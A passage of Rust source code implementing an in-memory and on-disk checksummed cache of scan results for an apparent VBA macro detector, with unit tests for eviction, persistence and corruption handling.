            FailureClass::Io | FailureClass::Panic | FailureClass::Timeout | FailureClass::Fatal
        ),
    }
}

// ---------------------------------------------------------------------------
// In-memory tier: sharded stamp-LRU.
// ---------------------------------------------------------------------------

#[derive(Debug, Default)]
struct Shard {
    map: HashMap<Key, (Entry, u64)>,
    clock: u64,
}

impl Shard {
    fn get(&mut self, key: &Key) -> Option<Entry> {
        self.clock += 1;
        let clock = self.clock;
        self.map.get_mut(key).map(|(entry, stamp)| {
            *stamp = clock;
            entry.clone()
        })
    }

    /// Inserts and returns how many entries were evicted to make room.
    fn put(&mut self, key: Key, entry: Entry, capacity: usize) -> u64 {
        self.clock += 1;
        self.map.insert(key, (entry, self.clock));
        let mut evicted = 0;
        while self.map.len() > capacity {
            // O(n) min-stamp scan: capacity per shard is small (total/16)
            // and eviction only runs once the shard is full, so this stays
            // off the hot path. A linked LRU is not worth the unsafe.
            let Some(oldest) = self
                .map
                .iter()
                .min_by_key(|(_, (_, stamp))| *stamp)
                .map(|(k, _)| *k)
            else {
                break;
            };
            self.map.remove(&oldest);
            evicted += 1;
        }
        evicted
    }
}

// ---------------------------------------------------------------------------
// On-disk tier: append-only JSONL segments.
// ---------------------------------------------------------------------------

#[derive(Debug)]
struct DiskStore {
    file: fs::File,
    appended: u64,
    write_error: bool,
}

/// Canonical serialization of one entry line. Doubles as the checksum
/// input (minus the `sum` field itself): the loader re-derives this exact
/// string from the parsed fields and compares checksums, so any bitflip —
/// in the digest, the outcome, the deltas, or the checksum — mismatches.
fn encode_entry_body(key: &Key, entry: &Entry) -> String {
    let deltas: Vec<String> = entry
        .deltas
        .iter()
        .map(|(c, n)| format!("{}:{n}", json_str(c.label())))
        .collect();
    format!(
        "\"digest\":{},\"detector\":{},\"policy\":{},\"outcome\":{},\"counters\":{{{}}}",
        json_str(&hex(&key.digest)),
        json_str(&format!("{:016x}", key.detector_fp)),
        json_str(&format!("{:016x}", key.policy_fp)),
        outcome_json(&entry.outcome),
        deltas.join(","),
    )
}

fn encode_entry_line(key: &Key, entry: &Entry) -> String {
    let body = encode_entry_body(key, entry);
    format!(
        "{{{body},\"sum\":{}}}\n",
        json_str(&format!("{:016x}", fnv1a64(body.as_bytes())))
    )
}

fn counter_from_label(label: &str) -> Option<Counter> {
    Counter::ALL.iter().copied().find(|c| c.label() == label)
}

/// Decodes one parsed entry line back into `(Key, Entry)`, verifying the
/// checksum by re-deriving the canonical body. `Err` is a human-readable
/// damage description.
fn decode_entry(j: &Json) -> Result<(Key, Entry), String> {
    let digest = j
        .get("digest")
        .and_then(Json::as_str)
        .and_then(unhex_digest)
        .ok_or("entry without a 64-hex-digit digest")?;
    let fp = |field: &str| -> Result<u64, String> {
        j.get(field)
            .and_then(Json::as_str)
            .and_then(|s| u64::from_str_radix(s, 16).ok())
            .ok_or(format!("entry without a hex {field} fingerprint"))
    };
    let key = Key {
        digest,
        detector_fp: fp("detector")?,
        policy_fp: fp("policy")?,
    };
    let outcome = decode_outcome(j.get("outcome").ok_or("entry without an outcome")?)?;
    let mut deltas: Vec<(Counter, u64)> = Vec::new();
    match j.get("counters") {
        Some(Json::Obj(pairs)) => {
            for (label, v) in pairs {
                let counter =
                    counter_from_label(label).ok_or(format!("unknown counter {label:?}"))?;
                let n = v.as_u64().ok_or(format!("non-integer counter {label:?}"))?;
                deltas.push((counter, n));
            }
        }
        _ => return Err("entry without a counters object".to_string()),
    }
    let entry = Entry { outcome, deltas };
    let sum = j
        .get("sum")
        .and_then(Json::as_str)
        .and_then(|s| u64::from_str_radix(s, 16).ok())
        .ok_or("entry without a checksum")?;
    let body = encode_entry_body(&key, &entry);
    if fnv1a64(body.as_bytes()) != sum {
        return Err("entry checksum mismatch (bitflip or tamper)".to_string());
    }
    Ok((key, entry))
}

fn segment_header() -> String {
    format!(
        "{{\"format\":{},\"version\":{CACHE_VERSION}}}\n",
        json_str(CACHE_FORMAT)
    )
}

/// Lists the segment files in `dir`, sorted by name (which sorts by index
/// thanks to the zero-padded naming scheme).
fn segment_paths(dir: &Path) -> io::Result<Vec<PathBuf>> {
    let mut segments = Vec::new();
    for entry in fs::read_dir(dir)? {
        let path = entry?.path();
        let name = path.file_name().and_then(|n| n.to_str()).unwrap_or("");
        if name.starts_with("seg-") && name.ends_with(".jsonl") {
            segments.push(path);
        }
    }
    segments.sort();
    Ok(segments)
}

fn next_segment_path(dir: &Path, existing: &[PathBuf]) -> PathBuf {
    let max = existing
        .iter()
        .filter_map(|p| p.file_stem()?.to_str()?.strip_prefix("seg-")?.parse().ok())
        .max()
        .unwrap_or(0u64);
    dir.join(format!("seg-{:06}.jsonl", max + 1))
}

// ---------------------------------------------------------------------------
// The cache proper.
// ---------------------------------------------------------------------------

/// A content-addressed scan-result cache. See the module docs.
///
/// Attach one to a batch via [`ScanPolicy::with_cache`](super::ScanPolicy)
/// or to the service by constructing its policy with one; every engine
/// (sequential, parallel, isolated, serve) consults it identically.
#[derive(Debug)]
pub struct ScanCache {
    shards: Vec<Mutex<Shard>>,
    /// Per-shard capacity (total capacity / SHARDS, at least 1).
    shard_capacity: usize,
    disk: Option<Mutex<DiskStore>>,
    load_warnings: Vec<String>,
}

impl ScanCache {
    fn fresh_shards() -> Vec<Mutex<Shard>> {
        (0..SHARDS).map(|_| Mutex::new(Shard::default())).collect()
    }

    /// A purely in-memory cache holding at most ~`capacity` entries
    /// (rounded up to a multiple of the shard count). For the resident
    /// service, where the process outlives many requests.
    pub fn in_memory(capacity: usize) -> ScanCache {
        ScanCache {
            shards: Self::fresh_shards(),
            shard_capacity: (capacity / SHARDS).max(1),
            disk: None,
            load_warnings: Vec::new(),
        }
    }

    /// A cache backed by an on-disk segment directory, for batch runs that
    /// want hits across process restarts. Existing segments are loaded
    /// into the in-memory tier (damage is tolerated and reported via
    /// [`load_warnings`](Self::load_warnings)); new inserts are appended
    /// to a fresh segment.
    ///
    /// # Errors
    ///
    /// Only on environmental failure: the directory cannot be created,
    /// listed, or a fresh segment cannot be opened for append. Damaged
    /// *content* never errors — that is a warning plus a smaller cache.
    pub fn persistent<P: AsRef<Path>>(dir: P, capacity: usize) -> io::Result<ScanCache> {
        let dir = dir.as_ref();
        fs::create_dir_all(dir)?;
        let mut cache = ScanCache {
            shards: Self::fresh_shards(),
            shard_capacity: (capacity / SHARDS).max(1),
            disk: None,
            load_warnings: Vec::new(),
        };
        let segments = segment_paths(dir)?;
        for segment in &segments {
            cache.load_segment(segment);
        }
        let fresh = next_segment_path(dir, &segments);
        let mut file = fs::OpenOptions::new()
            .create(true)
            .append(true)
            .open(&fresh)?;
        file.write_all(segment_header().as_bytes())?;
        file.sync_data()?;
        cache.disk = Some(Mutex::new(DiskStore {
            file,
            appended: 0,
            write_error: false,
        }));
        Ok(cache)
    }

    /// Loads one segment into the in-memory tier. Total: every class of
    /// damage degrades to a warning, never an error or a wrong entry —
    /// a bad header skips the segment, an unparseable or oversized line
    /// stops the segment there (torn tail), a parseable line whose
    /// checksum mismatches is skipped and the rest of the segment kept.
    fn load_segment(&mut self, path: &Path) {
        let name = path.display();
        let bytes = match fs::read(path) {
            Ok(b) => b,
            Err(e) => {
                self.load_warnings.push(format!("{name}: unreadable: {e}"));
                return;
            }
        };
        let text = String::from_utf8_lossy(&bytes);
        let mut lines = text.split_inclusive('\n');
        let header_ok = lines.next().is_some_and(|line| {
            line.ends_with('\n')
                && parse_json(line.trim_end()).is_ok_and(|j| {
                    j.get("format").and_then(Json::as_str) == Some(CACHE_FORMAT)
                        && j.get("version").and_then(Json::as_u64) == Some(CACHE_VERSION)
                })
        });
        if !header_ok {
            self.load_warnings.push(format!(
                "{name}: missing or foreign header, segment skipped"
            ));
            return;
        }
        for (lineno, line) in lines.enumerate() {
            let lineno = lineno + 2;
            if !line.ends_with('\n') {
                self.load_warnings
                    .push(format!("{name}:{lineno}: torn tail dropped"));
                return;
            }
            if line.len() > MAX_ENTRY_LINE_BYTES {
                self.load_warnings.push(format!(
                    "{name}:{lineno}: {}-byte line over the {MAX_ENTRY_LINE_BYTES}-byte cap, \
                     rest of segment dropped",
                    line.len()
                ));
                return;
            }
            let decoded = parse_json(line.trim_end())
                .map_err(|e| format!("unparseable: {e}"))
                .and_then(|j| decode_entry(&j));
            match decoded {
                Ok((key, entry)) => {
                    self.shard(&key)
                        .lock()
                        .expect("cache shard lock poisoned")
                        .put(key, entry, self.shard_capacity);
                }
                Err(why) => {
                    // A checksum or schema failure is line-local damage:
                    // skip it and keep loading. (A torn write can only be
                    // the *last* line; that case returned above.)
                    self.load_warnings.push(format!("{name}:{lineno}: {why}"));
                }
            }
        }
    }

    /// Warnings accumulated while loading on-disk segments: one line per
    /// damaged segment, torn tail, or corrupt entry. Empty for in-memory
    /// caches and pristine directories.
    pub fn load_warnings(&self) -> &[String] {
        &self.load_warnings
    }

    /// Number of entries currently resident in memory.
    pub fn len(&self) -> usize {
        self.shards
            .iter()
            .map(|s| s.lock().expect("cache shard lock poisoned").map.len())
            .sum()
    }

    /// Whether the in-memory tier is empty.
    pub fn is_empty(&self) -> bool {
        self.len() == 0
    }

    /// Every resident entry as `(hex content digest, outcome)`, in no
    /// particular order. For tests and offline inspection: the hostile
    /// -input fuzz asserts that whatever survives a corrupted store is a
    /// subset of what was written, never an altered verdict.
    pub fn entries(&self) -> Vec<(String, ScanOutcome)> {
        self.shards
            .iter()
            .flat_map(|s| {
                s.lock()
                    .expect("cache shard lock poisoned")
                    .map
                    .iter()
                    .map(|(k, (entry, _))| (hex(&k.digest), entry.outcome.clone()))
                    .collect::<Vec<_>>()
            })
            .collect()
    }

    fn shard(&self, key: &Key) -> &Mutex<Shard> {
        &self.shards[key.digest[0] as usize % SHARDS]
    }

    pub(crate) fn lookup(&self, key: &Key, metrics: &MetricsSink) -> Option<(ScanOutcome, Deltas)> {
        let hit = self
            .shard(key)
            .lock()
            .expect("cache shard lock poisoned")
            .get(key);
        match hit {
            Some(entry) => {
                metrics.record(Stage::CacheHits, 1);
                Some((entry.outcome, entry.deltas))
            }
            None => {
                metrics.record(Stage::CacheMisses, 1);
                None
            }
        }
    }

    pub(crate) fn insert(
        &self,
        key: Key,
        outcome: &ScanOutcome,
        deltas: &[(Counter, u64)],
        metrics: &MetricsSink,
    ) {
        if !cacheable(outcome) {
            return;
        }
        let mut deltas = deltas.to_vec();
        deltas.sort_by_key(|(c, _)| c.label());
        let entry = Entry {
            outcome: outcome.clone(),
            deltas,
        };
        let line = encode_entry_line(&key, &entry);
        metrics.record(Stage::CacheInserts, 1);
        metrics.record(Stage::CacheBytes, line.len() as u64);
        let evicted = self
            .shard(&key)
            .lock()
            .expect("cache shard lock poisoned")
            .put(key, entry, self.shard_capacity);
        if evicted > 0 {
            metrics.record(Stage::CacheEvictions, evicted);
        }
        if line.len() > MAX_ENTRY_LINE_BYTES {
            return;
        }
        if let Some(disk) = &self.disk {
            let mut store = disk.lock().expect("cache disk lock poisoned");
            if store.write_error {
                return;
            }
            // One write per line: a crash can tear at most the final
            // line, which the loader detects by its missing newline.
            if store.file.write_all(line.as_bytes()).is_err() {
                // A full disk must not take down the batch: stop
                // persisting, keep scanning and keep the memory tier.
                store.write_error = true;
                return;
            }
            store.appended += 1;
            if store.appended % FSYNC_PERIOD == 0 {
                let _ = store.file.sync_data();
            }
        }
    }
}

impl Drop for ScanCache {
    fn drop(&mut self) {
        if let Some(disk) = &self.disk {
            if let Ok(store) = disk.lock() {
                let _ = store.file.sync_data();
            }
        }
    }
}

// ---------------------------------------------------------------------------
// Engine-facing binding.
// ---------------------------------------------------------------------------

/// A [`ScanCache`] bound to one `(detector, policy)` pair: the expensive
/// fingerprints are computed once per batch or service lifetime, not once
/// per document. Engines construct one at entry from
/// [`ScanPolicy::cache`](super::ScanPolicy) and pass it down the per-
/// document path.
#[derive(Debug, Clone)]
pub(crate) struct BoundCache {
    cache: Arc<ScanCache>,
    detector_fp: u64,
    policy_fp: u64,
}

impl BoundCache {
    /// Binds the policy's cache, if any.
    pub(crate) fn bind(detector: &Detector, policy: &ScanPolicy) -> Option<BoundCache> {
        policy.cache.as_ref().map(|cache| BoundCache {
            cache: Arc::clone(cache),
            detector_fp: detector_fingerprint(detector),
            policy_fp: policy_fingerprint(policy),
        })
    }

    pub(crate) fn key(&self, digest: ContentDigest) -> Key {
        Key {
            digest,
            detector_fp: self.detector_fp,
            policy_fp: self.policy_fp,
        }
    }

    pub(crate) fn lookup(
        &self,
        digest: ContentDigest,
        metrics: &MetricsSink,
    ) -> Option<(ScanOutcome, Deltas)> {
        self.cache.lookup(&self.key(digest), metrics)
    }

    pub(crate) fn insert(
        &self,
        digest: ContentDigest,
        outcome: &ScanOutcome,
        deltas: &[(Counter, u64)],
        metrics: &MetricsSink,
    ) {
        self.cache
            .insert(self.key(digest), outcome, deltas, metrics);
    }

    /// Reads and digests a file for a supervisor-side probe (used by the
    /// isolation engine and the resident service, whose actual scan may
    /// happen in another process). Any read trouble — missing file, over
    /// the cap, grew past the cap — is [`PathProbe::Unreadable`]: the
    /// caller's normal scan path classifies it exactly as it would have
    /// with no cache, and nothing about it is cached or miss-counted.
    pub(crate) fn probe_path(
        &self,
        path: &Path,
        max_file_size: u64,
        metrics: &MetricsSink,
    ) -> PathProbe {
        let Some(digest) = digest_path_under_cap(path, max_file_size) else {
            return PathProbe::Unreadable;
        };
        match self.lookup(digest, metrics) {
            Some((outcome, deltas)) => PathProbe::Hit(outcome, deltas),
            None => PathProbe::Miss(digest),
        }
    }
}

/// Reads and digests a file under the size cap without consulting any
/// cache. `None` means the file is unreadable or over the cap — callers
/// bypass caching entirely and let their normal scan path classify the
/// trouble exactly as an uncached run would.
pub(crate) fn digest_path_under_cap(path: &Path, max_file_size: u64) -> Option<ContentDigest> {
    let meta = fs::metadata(path).ok()?;
    if meta.len() > max_file_size {
        return None;
    }
    let bytes = fs::read(path).ok()?;
    if bytes.len() as u64 > max_file_size {
        return None;
    }
    Some(sha256(&bytes))
}

/// Result of [`BoundCache::probe_path`].
pub(crate) enum PathProbe {
    /// Cached: the stored outcome and its replayable counter deltas.
    Hit(ScanOutcome, Deltas),
    /// Readable but not cached; the digest is handed back so the caller
    /// can insert whatever its scan decides without re-reading.
    Miss(ContentDigest),
    /// Not readable under the cap; bypass the cache entirely.
    Unreadable,
}

/// Captures the non-zero counter values from a fresh sink's snapshot as
/// replayable deltas. The fresh sink saw exactly one document, so its
/// totals *are* that document's contribution.
pub(crate) fn deltas_from_sink(sink: &MetricsSink) -> Deltas {
    let Some(snapshot) = sink.snapshot() else {
        return Vec::new();
    };
    Counter::ALL
        .iter()
        .filter_map(|&c| {
            let n = snapshot.counter(c.label());
            (n > 0).then_some((c, n))
        })
        .collect()
}

/// Replays stored deltas into the live sink, as if the document had been
/// scanned here.
pub(crate) fn replay_deltas(metrics: &MetricsSink, deltas: &[(Counter, u64)]) {
    for &(counter, n) in deltas {
        metrics.count(counter, n);
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::detector::{DetectorConfig, ModuleVerdict};
    use vbadet_corpus::CorpusSpec;

    fn tempdir(tag: &str) -> PathBuf {
        let dir = std::env::temp_dir().join(format!(
            "vbadet-cache-unit-{tag}-{}-{:?}",
            std::process::id(),
            std::thread::current().id()
        ));
        let _ = fs::remove_dir_all(&dir);
        fs::create_dir_all(&dir).unwrap();
        dir
    }

    fn key(seed: u8) -> Key {
        Key {
            digest: sha256(&[seed]),
            detector_fp: 0x1111,
            policy_fp: 0x2222,
        }
    }

    fn macro_outcome() -> ScanOutcome {
        ScanOutcome::Macros(vec![ModuleVerdict {
            module_name: "Module1".to_string(),
            verdict: crate::detector::Verdict {
                obfuscated: true,
                score: 0.875,
            },
        }])
    }

    #[test]
    fn sha256_matches_fips_vectors() {
        assert_eq!(
            hex(&sha256(b"")),
            "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855"
        );
        assert_eq!(
            hex(&sha256(b"abc")),
            "ba7816bf8f01cfea414140de5dae2223b00361a396177a9cb410ff61f20015ad"
        );
        assert_eq!(
            hex(&sha256(
                b"abcdbcdecdefdefgefghfghighijhijkijkljklmklmnlmnomnopnopq"
            )),
            "248d6a61d20638b8e5c026930c3e6039a33ce45964ff2167f6ecedd419db06c1"
        );
        // 55/56/64-byte messages straddle the padding block boundary.
        for (len, want) in [
            (
                55,
                "9f4390f8d30c2dd92ec9f095b65e2b9ae9b0a925a5258e241c9f1e910f734318",
            ),
            (
                56,
                "b35439a4ac6f0948b6d6f9e3c6af0f5f590ce20f1bde7090ef7970686ec6738a",
            ),
            (
                64,
                "ffe054fe7ae0cb6dc65c3af9b61d5209f439851db43d0ba5997337df154668eb",
            ),
        ] {
            assert_eq!(hex(&sha256(&vec![b'a'; len])), want, "len={len}");
        }
    }

    #[test]
    fn fnv_fingerprints_are_stable_and_input_sensitive() {
        assert_eq!(fnv1a64(b""), 0xcbf29ce484222325);
        assert_ne!(fnv1a64(b"a"), fnv1a64(b"b"));
    }

    #[test]
    fn policy_fingerprint_tracks_outcome_affecting_fields_only() {
        let base = ScanPolicy::default();
        let fp = policy_fingerprint(&base);
        // Execution-shape knobs must not fragment the key space.
        assert_eq!(fp, policy_fingerprint(&base.clone().jobs(7)));
        assert_eq!(
            fp,
            policy_fingerprint(&base.clone().with_metrics(MetricsSink::enabled()))
        );
        assert_eq!(fp, policy_fingerprint(&base.clone().drain_on_interrupt()));
        assert_eq!(
            fp,
            policy_fingerprint(
                &base
                    .clone()
                    .with_cache(std::sync::Arc::new(ScanCache::in_memory(4)))
            )
        );
        // Outcome-affecting fields must.
        assert_ne!(fp, policy_fingerprint(&base.clone().deadline_ms(1234)));
        assert_ne!(fp, policy_fingerprint(&base.clone().fuel(9)));
        assert_ne!(fp, policy_fingerprint(&base.clone().with_ladder()));
        assert_ne!(fp, policy_fingerprint(&base.clone().max_scan_mem_bytes(1)));
        let mut shrunk = base.clone();
        shrunk.limits.max_file_size = 17;
        assert_ne!(fp, policy_fingerprint(&shrunk));
    }

    #[test]
    fn detector_fingerprint_tracks_retraining() {
        let config = DetectorConfig::default();
        let a = Detector::train_on_corpus(&config, &CorpusSpec::paper().scaled(0.02));
        let b = Detector::train_on_corpus(&config, &CorpusSpec::paper().scaled(0.03));
        assert_eq!(detector_fingerprint(&a), detector_fingerprint(&a));
        assert_ne!(detector_fingerprint(&a), detector_fingerprint(&b));
    }

    #[test]
    fn in_memory_roundtrip_and_miss_on_foreign_key() {
        let cache = ScanCache::in_memory(64);
        let metrics = MetricsSink::default();
        let outcome = macro_outcome();
        let deltas = vec![(Counter::ScanDocs, 1), (Counter::ZipParses, 2)];
        cache.insert(key(1), &outcome, &deltas, &metrics);
        let (got, got_deltas) = cache.lookup(&key(1), &metrics).expect("hit");
        assert_eq!(got, outcome);
        assert_eq!(got_deltas.len(), 2);
        assert!(cache.lookup(&key(2), &metrics).is_none());
        let mut other_policy = key(1);
        other_policy.policy_fp ^= 1;
        assert!(
            cache.lookup(&other_policy, &metrics).is_none(),
            "a fingerprint mismatch must be a clean miss"
        );
    }

    #[test]
    fn uncacheable_outcomes_are_never_stored() {
        let cache = ScanCache::in_memory(64);
        let metrics = MetricsSink::default();
        for class in [
            FailureClass::Io,
            FailureClass::Panic,
            FailureClass::Timeout,
            FailureClass::Fatal,
        ] {
            let outcome = ScanOutcome::Failed {
                class,
                detail: "environmental".to_string(),
            };
            cache.insert(key(class as u8), &outcome, &[], &metrics);
        }
        assert!(cache.is_empty());
        let typed = ScanOutcome::Failed {
            class: FailureClass::Truncated,
            detail: "file ends early".to_string(),
        };
        cache.insert(key(100), &typed, &[], &metrics);
        assert_eq!(cache.len(), 1);
    }

    #[test]
    fn lru_evicts_the_oldest_entry_per_shard() {
        // Capacity below the shard count clamps to one entry per shard:
        // two keys in the same shard must evict down to the newer one.
        let cache = ScanCache::in_memory(1);
        let metrics = MetricsSink::enabled();
        let (mut a, mut b) = (key(1), key(2));
        a.digest[0] = 0;
        b.digest[0] = 0;
        cache.insert(a, &ScanOutcome::Clean, &[], &metrics);
        cache.insert(b, &ScanOutcome::Clean, &[], &metrics);
        assert!(cache.lookup(&a, &metrics).is_none(), "oldest evicted");
        assert!(cache.lookup(&b, &metrics).is_some());
        let snap = metrics.snapshot().unwrap();
        assert_eq!(snap.histograms["cache.evictions"].total, 1);
        assert_eq!(snap.histograms["cache.inserts"].count, 2);
    }

    #[test]
    fn persistent_roundtrip_across_reopen() {
        let dir = tempdir("roundtrip");
        let metrics = MetricsSink::default();
        let outcome = macro_outcome();
        {
            let cache = ScanCache::persistent(&dir, 64).unwrap();
            assert!(cache.load_warnings().is_empty());
            cache.insert(key(1), &outcome, &[(Counter::ScanDocs, 1)], &metrics);
            cache.insert(key(2), &ScanOutcome::Clean, &[], &metrics);
        }
        let cache = ScanCache::persistent(&dir, 64).unwrap();
        assert!(
            cache.load_warnings().is_empty(),
            "{:?}",
            cache.load_warnings()
        );
        assert_eq!(cache.len(), 2);
        let (got, deltas) = cache.lookup(&key(1), &metrics).expect("hit after reopen");
        assert_eq!(got, outcome);
        assert_eq!(deltas, vec![(Counter::ScanDocs, 1)]);
        let _ = fs::remove_dir_all(&dir);
    }

    #[test]
    fn torn_tail_drops_only_the_last_line() {
        let dir = tempdir("torn");
        let metrics = MetricsSink::default();
        {
            let cache = ScanCache::persistent(&dir, 64).unwrap();
            cache.insert(key(1), &ScanOutcome::Clean, &[], &metrics);
            cache.insert(key(2), &macro_outcome(), &[], &metrics);
        }
        let seg = segment_paths(&dir).unwrap().pop().unwrap();
        let mut bytes = fs::read(&seg).unwrap();
        let cut = bytes.len() - 10;
        bytes.truncate(cut);
        fs::write(&seg, &bytes).unwrap();
        let cache = ScanCache::persistent(&dir, 64).unwrap();
        assert_eq!(cache.len(), 1);
        assert!(cache.lookup(&key(1), &metrics).is_some());
        assert!(cache.lookup(&key(2), &metrics).is_none());
        assert!(
            cache.load_warnings().iter().any(|w| w.contains("torn")),
            "{:?}",
            cache.load_warnings()
        );
        let _ = fs::remove_dir_all(&dir);
    }

    #[test]
    fn bitflipped_entry_is_skipped_not_served() {
        let dir = tempdir("bitflip");
        let metrics = MetricsSink::default();
        {
            let cache = ScanCache::persistent(&dir, 64).unwrap();
            cache.insert(key(1), &macro_outcome(), &[], &metrics);
            cache.insert(key(2), &ScanOutcome::Clean, &[], &metrics);
        }
        let seg = segment_paths(&dir).unwrap().pop().unwrap();
        let text = fs::read_to_string(&seg).unwrap();
        // Flip the verdict of the first entry without touching its
        // checksum: the loader must refuse to serve the altered line.
        let doctored = text.replacen("\"obfuscated\":true", "\"obfuscated\":false", 1);
        assert_ne!(doctored, text, "fixture should contain a verdict to flip");
        fs::write(&seg, doctored).unwrap();
        let cache = ScanCache::persistent(&dir, 64).unwrap();
        assert!(cache.lookup(&key(1), &metrics).is_none());
        assert!(cache.lookup(&key(2), &metrics).is_some());
        assert!(
            cache
                .load_warnings()
                .iter()
                .any(|w| w.contains("checksum mismatch")),
            "{:?}",
            cache.load_warnings()
        );
        let _ = fs::remove_dir_all(&dir);
    }

    #[test]
    fn foreign_header_skips_the_segment() {
        let dir = tempdir("header");
        fs::write(
            dir.join("seg-000001.jsonl"),
            "{\"format\":\"something-else\",\"version\":1}\n",
        )
        .unwrap();
        let cache = ScanCache::persistent(&dir, 64).unwrap();
        assert!(cache.is_empty());
        assert!(cache.load_warnings().iter().any(|w| w.contains("header")));
        // The writer must have opened a *new* segment, not appended to
        // the foreign one.
        assert_eq!(segment_paths(&dir).unwrap().len(), 2);
        let _ = fs::remove_dir_all(&dir);
    }

    #[test]
    fn entry_serialization_round_trips_canonically() {
        let entry = Entry {
            outcome: macro_outcome(),
            deltas: vec![(Counter::ScanDocs, 1), (Counter::ZipParses, 3)],
        };
        let line = encode_entry_line(&key(9), &entry);
        let parsed = parse_json(line.trim_end()).unwrap();
        let (k, e) = decode_entry(&parsed).unwrap();
        assert_eq!(k, key(9));
        assert_eq!(e, entry);
        assert_eq!(encode_entry_line(&k, &e), line);
    }
}
